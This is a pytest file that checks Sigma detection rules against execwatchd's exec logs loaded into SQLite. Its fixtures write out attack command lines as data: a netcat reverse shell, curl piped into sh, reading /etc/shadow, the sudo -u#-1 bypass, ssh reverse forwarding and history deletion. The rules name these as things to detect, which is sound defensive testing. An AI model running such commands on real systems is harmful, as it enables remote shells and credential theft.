# SPDX-License-Identifier: GPL-2.0-or-later
"""contrib/sigma: rules find what they are for in a table of `execwatchctl log -o json`, and nothing else."""

import json
import re
import runpy
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from sigma.backends.sqlite.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaTransformationError
from sigma.processing.pipeline import ProcessingPipeline

from execwatchd.ctl.export.fields import FIELDS
from execwatchd.ctl.ports import Entry
from execwatchd.shared import quoting
from execwatchd.shared.message_ids import MessageId
from tests.fakes.ctl import FakeJournal, Rig, end_entry, entry, exec_entry, failed_entry

REPOSITORY = Path(__file__).resolve().parents[2]
SIGMA = REPOSITORY / "contrib/sigma"
load = runpy.run_path(str(SIGMA / "load.py"))
PIPELINE = (SIGMA / "execwatchd.yml").read_text()
STANDARD = json.loads((REPOSITORY / "tests/standards/sigma.json").read_text())
LOST = entry(MessageId.EVENTS_LOST, text=b"12 execs were not recorded", LOST=12)
BUILT = {"CommandLine": "command_line", "User": "user"}  # by load.py, from argv and uid


pytestmark = pytest.mark.usefixtures("every_field", "utc")


def ran(line: str, *argv: bytes, **fields: Any) -> Entry:
    """An exec of the words of a line, and further arguments, from a shell."""
    words = [word.encode() for word in line.split()] + list(argv)
    defaults: dict[str, Any] = {
        "EXE": b"/usr/bin/" + words[0].rpartition(b"/")[2],
        "PARENT_EXE": b"/usr/bin/bash",
        "PARENT_CMDLINE": b"bash",
        "UID": 1000,
    }
    return exec_entry(7, *words, **(defaults | fields))


class Case(NamedTuple):
    """A rule's detection, execs that it finds, and execs near to them that it doesn't find."""

    detection: str
    found: list[Entry]
    others: list[Entry]


CASES = {
    "netcat with a program": Case(
        """
        selection:
            Image|endswith: [/nc, /ncat]
            CommandLine|contains: [' -e ', ' --exec ']
        condition: selection
        """,
        [ran("nc -e /bin/sh 192.0.2.1 4444"), ran("NC 192.0.2.1 -e sh", EXE=b"/opt/NC")],
        [ran("nc -l 4444"), ran("echo nc -e /bin/sh"), ran("rsync -e ssh a b")],
    ),
    "download into a shell": Case(
        """
        shell:
            Image|endswith: [/sh, /bash, /dash]
            CommandLine|contains|all: ['-c curl ', '| sh']
        condition: shell
        """,
        [ran("bash -c", b"curl -s https://192.0.2.1/x | sh"), ran("sh -c", b"curl x | sh")],
        [ran("bash -c", b"curl -o x https://192.0.2.1/x"), ran("bash -c", b"wget x | sh")],
    ),
    "base64 decoded": Case(
        """
        selection:
            Image|endswith: /base64
            CommandLine|contains: [' -d', ' --decode']
        condition: selection
        """,
        [ran("base64 -d"), ran("base64 --decode x"), ran("/usr/bin/base64 -di x")],
        [ran("base64 x"), ran("cat base64 -d")],
    ),
    "shell of a web server": Case(
        """
        selection:
            ParentImage|endswith: [/nginx, /apache2, /php-fpm8.2]
            Image|endswith: [/sh, /bash, /dash]
        condition: selection
        """,
        [
            ran("sh -c id", EXE=b"/usr/bin/dash", PARENT_EXE=b"/usr/sbin/apache2"),
            ran("bash", PARENT_EXE=b"/usr/sbin/nginx"),
        ],
        [ran("bash", PARENT_EXE=b"/usr/bin/sshd"), ran("cat x", PARENT_EXE=b"/usr/sbin/nginx")],
    ),
    "program in a directory for temporary files": Case(
        """
        selection:
            Image|startswith: [/tmp/, /var/tmp/, /dev/shm/]
        filter:
            ParentImage|endswith: /dpkg
        condition: selection and not filter
        """,
        [
            ran("x", EXE=b"/tmp/.x/x"),
            ran("x", EXE=b"/dev/shm/x", PARENT_EXE=b"/usr/bin/bash"),
            exec_entry(7, b"/tmp/x", FILENAME=b"/tmp/x"),  # whose parent isn't recorded, nor the file
        ],
        [ran("x", EXE=b"/tmp/x", PARENT_EXE=b"/usr/bin/dpkg"), ran("ls /tmp/x"), ran("x", EXE=b"/tmpx")],
    ),
    "sudo as user -1": Case(
        """
        selection:
            Image|endswith: /sudo
            CommandLine|contains: ['-u#-1', '-u#4294967295', '-u \\\\#-1']
        condition: selection
        """,
        [ran("sudo -u#-1 id"), ran("/usr/bin/sudo -u#4294967295 id")],
        [ran("sudo -u#1000 id"), ran("sudo -u root id")],
    ),
    "password hashes read by a user": Case(
        """
        selection:
            CommandLine|contains: /etc/shadow
        filter:
            User: root
        condition: selection and not filter
        """,
        [ran("cat /etc/shadow"), ran("cp /etc/shadow /tmp", UID=4_000_000_000)],
        [ran("cat /etc/shadow", UID=0), ran("cat /etc/passwd")],
    ),
    "root in the web root": Case(
        """
        selection:
            User: ROOT
            LogonId: '0'
            CurrentDirectory|startswith: /var/www/
        condition: selection
        """,
        [ran("id", UID=0, CWD=b"/var/www/html")],
        [ran("id", UID=1000, CWD=b"/var/www/html"), ran("id", UID=0, CWD=b"/root"), ran("id", UID=0)],
    ),
    "crontab replaced": Case(
        """
        selection:
            Image|endswith: /crontab
        listing:
            CommandLine|endswith: ' -l'
        condition: selection and not listing
        """,
        [ran("crontab -"), ran("crontab -u root /tmp/x")],
        [ran("crontab -l"), ran("crontab -u root -l"), ran("vi crontab")],
    ),
    "history removed": Case(
        """
        selection:
            Image|endswith: [/rm, /shred, /truncate]
            CommandLine|contains: _history
        condition: selection
        """,
        [ran("rm -f /root/.bash_history"), ran("truncate -s 0 .zsh_history")],
        [ran("rm -f /root/.bash-history"), ran("cat .bash_history")],  # _ is no wildcard
    ),
    "download by a shell's one command": Case(
        """
        selection:
            Image|endswith: [/curl, /wget]
            ParentCommandLine|contains: 'sh -c curl'
        condition: selection
        """,
        [
            ran("curl x", PARENT_CMDLINE=b"/bin/sh -c 'curl x; id'"),
            ran("curl x", PARENT_CMDLINE=rb"bash -c $'curl x\012id\'s'"),
        ],
        [ran("curl x", PARENT_CMDLINE=b"/bin/sh -c 'echo curl'"), ran("curl x")],
    ),
    "ssh that forwards a port": Case(
        """
        selection:
            Image|endswith: /ssh
            CommandLine|re: ' -[fNT]*R ?[0-9]+:'
        condition: selection
        """,
        [ran("ssh -R 8080:localhost:80 192.0.2.1"), ran("ssh -fNR 22:x:22 y")],
        [ran("ssh -L 8080:localhost:80 192.0.2.1"), ran("ssh host ls -R")],
    ),
    "daemon's child in a session": Case(
        """
        selection:
            ParentProcessId: 1
            TerminalSessionId|gt: 2
        condition: selection
        """,
        [ran("x", SESSION=3, PPID=1)],
        [ran("x", SESSION=2, PPID=1), ran("x", SESSION=3, PPID=5), ran("x", PPID=1)],
    ),
    "no directory": Case(
        """
        selection:
            CurrentDirectory: null
            ProcessId: 7
        condition: selection
        """,
        [ran("x")],
        [ran("x", CWD=b"/")],
    ),
    "what isn't UTF-8 hides nothing": Case(
        """
        selection:
            Image|endswith: /nc
            CommandLine|contains: ' -e '
        condition: selection
        """,
        [
            ran("nc -e sh", b"\xff", EXE=b"/tmp/\xff/nc"),
            ran("nc -e sh", b"\xff", ARGV_RAW=b"nc\0-e\0sh\0\xff\0"),
        ],
        [ran("nc", b"\xff-e", b"sh")],
    ),
}


def rule(detection: str, product: str = "linux", category: str = "process_creation") -> str:
    source = {"product": product, "category": category}
    return yaml.safe_dump(
        {"title": "A test", "logsource": source, "detection": yaml.safe_load(detection), "level": "high"}
    )


def query(text: str) -> str:
    """The SQL of a rule."""
    backend = sqliteBackend(ProcessingPipeline.from_yaml(PIPELINE))
    (sql,) = backend.convert(SigmaCollection.from_yaml(text))
    return str(sql)


def table(path: Path, *entries: Entry) -> sqlite3.Connection:
    """The database that load.py makes of these entries, as a user has it."""
    rig = Rig(journal=FakeJournal(entries))
    assert rig.run("log", "-o", "json") == 0
    subprocess.run([sys.executable, SIGMA / "load.py", path], input=rig.out, text=True, check=True)
    database = sqlite3.connect(path)
    database.row_factory = sqlite3.Row
    database.create_function("regexp", 2, lambda pattern, value: bool(re.search(pattern, value or "")))
    return database


@pytest.mark.parametrize("name", CASES)
def test_a_rule_finds_what_it_is_for(name: str, tmp_path: Path) -> None:
    case = CASES[name]
    database = table(tmp_path / "db", *case.found, *case.others)
    sql = query(rule(case.detection)).replace("*", "rowid, *", 1)
    rows = database.execute(sql).fetchall()
    database.close()
    lines = [row["command_line"] for row in rows]
    assert [row["rowid"] for row in rows] == list(range(1, len(case.found) + 1)), lines


def test_matches_are_listed_with_the_title_of_their_rule(tmp_path: Path) -> None:
    pipeline = ProcessingPipeline.from_yaml(PIPELINE)
    pipeline += ProcessingPipeline.from_yaml((SIGMA / "matches.yml").read_text())
    text = rule("{s: {CommandLine|contains: a}, condition: s}").replace("A test", '"What\'s read"')
    (sql,) = sqliteBackend(pipeline).convert(SigmaCollection.from_yaml(text))
    database = table(tmp_path / "db", ran("cat a", UID=0), ran("id"))
    assert [tuple(row) for row in database.execute(sql)] == [
        ("What's read", "2023-11-14T22:13:20.000000+00:00", "root", "cat a")
    ]
    database.close()


def test_only_what_was_executed_is_a_process_creation(tmp_path: Path) -> None:
    entries = failed_entry(7, b"id"), end_entry(7, "7-1-1", 5, COMM=b"id"), exec_entry(8, b"id")
    database = table(tmp_path / "db", *entries)
    rows = database.execute(query(rule("{selection: {Image|endswith: id}, condition: selection}"))).fetchall()
    assert [row["pid"] for row in rows] == [8]
    database.close()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (rule("{s: {Image: x}, condition: s}", product="windows"), "only rules for Linux process creation"),
        (rule("{s: {Image: x}, condition: s}", category="file_event"), "only rules for Linux process"),
        (rule("{s: {Image: x}, t: {Hashes: y}, condition: s and not t}"), "records no field of this name"),
        (rule("{s: {IntegrityLevel: x}, condition: s}"), "records no field of this name"),
    ],
)
def test_a_rule_that_could_not_work_is_refused(text: str, reason: str) -> None:
    with pytest.raises(SigmaTransformationError, match=reason):
        query(text)


def test_the_pipeline_maps_what_the_table_says() -> None:
    items = {item["id"]: item for item in yaml.safe_load(PIPELINE)["transformations"]}
    mapping = items["columns"]["mapping"]
    (condition,) = items["recorded"]["field_name_conditions"]
    columns = {
        sigma: BUILT.get(sigma, name.lower())
        for name, field in FIELDS.items()
        for sigma in field.sigma.split()
    }
    assert mapping == columns
    assert mapping.keys() == set(condition["fields"])
    assert mapping.keys() <= set(STANDARD["process_creation"])


def test_every_member_of_a_line_is_a_column(tmp_path: Path) -> None:
    entries = LOST, entry(MessageId.STORM_STARTED, UID=5, LIMIT=9, SUPPRESSED=3), ran("ls", b"a b", b"\xff")
    database = table(tmp_path / "db", *entries)
    lost, suppressed, exec_ = database.execute("SELECT * FROM execs").fetchall()
    assert (lost["kind"], lost["lost"], lost["command_line"]) == ("lost", 12, None)
    assert (suppressed["limit"], suppressed["suppressed"]) == (9, 3)
    assert (exec_["argv"], exec_["command_line"]) == ('["ls", "a b", [255]]', r"ls a b \xff")
    assert (exec_["parent_comm"], exec_["result"], exec_["filename"]) == ("bash", 0, "/bin/ls")
    database.close()


def test_the_table_grows_and_is_its_owners_alone(tmp_path: Path) -> None:
    path = tmp_path / "db"
    for count in (1, 2):
        database = table(path, ran("ls"))
        assert database.execute("SELECT count(*) FROM execs").fetchone()[0] == count
        database.close()
    assert path.stat().st_mode & 0o77 == 0


@pytest.mark.parametrize("line", ["nonsense", "[]", '{"pid": 1}', '{"kind": "exec", "x\\"y": 1}'])
def test_what_is_no_event_is_refused_whole(line: str, tmp_path: Path) -> None:
    command = [sys.executable, str(SIGMA / "load.py"), str(tmp_path / "db")]
    text = '{"kind": "exec"}\n' + line
    done = subprocess.run(command, input=text, text=True, check=False, capture_output=True)
    assert done.returncode == 1
    assert done.stderr.startswith("load.py: nothing was added: ")
    database = sqlite3.connect(tmp_path / "db")
    assert database.execute("SELECT * FROM execs").fetchall() == []
    database.close()


@given(st.lists(st.text("ab '\\\"$;é=", max_size=8), min_size=1))
def test_quotes_are_taken_off(words: list[str]) -> None:
    argv = "".join(f"{word}\0" for word in words).encode()
    assert load["unquoted"](quoting.shell(argv)) == " ".join(words)
